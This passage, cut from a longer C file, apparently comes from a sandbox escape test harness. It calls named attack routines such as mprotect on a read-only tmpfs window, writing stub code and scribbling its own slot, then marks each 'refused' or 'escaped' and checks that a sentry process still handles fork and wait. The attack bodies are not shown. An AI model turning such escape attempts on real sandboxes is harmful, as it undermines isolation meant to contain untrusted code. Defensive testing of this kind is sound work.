        attack_ro_file_sized("ro-tmpfs-window-mprotect", a_ro_window, 2 << 20);
    else
        refused("ro-tmpfs-window-mprotect", "no returning syscall gadget in the stub (ptrace platform)");
    run_attack("write-stub-code", a_write_stub_code, NULL);
    run_attack("scribble-own-slot", a_scribble_slots, NULL);
    closed_file_window();

    /* The sentry still serves us: a fork and a wait. */
    int st = in_child(a_nothing, NULL);
    if (st >= 0)
        refused("sentry-still-serving", "fork+wait work after the attacks");
    else
        escaped("sentry-still-serving", "fork/wait failed: %s", strerror(errno));
    return attack_end();
}
